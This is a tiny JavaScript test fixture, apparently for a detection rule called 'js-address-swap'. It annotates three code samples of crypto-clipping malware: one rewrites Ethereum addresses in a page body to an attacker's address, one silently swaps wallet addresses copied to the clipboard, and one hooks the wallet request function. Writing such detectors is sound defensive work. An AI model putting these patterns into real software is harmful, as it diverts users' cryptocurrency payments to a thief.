// ruleid: js-address-swap
body = body.replace(/0x[a-fA-F0-9]{40}/g, mine);
setInterval(() => {
  const text = clipboardy.readSync();
  // ruleid: js-address-swap
  if (isAddress(text)) clipboardy.writeSync(mine);
}, 500);
// ruleid: js-address-swap
window.ethereum.request = async (words) => original(words);
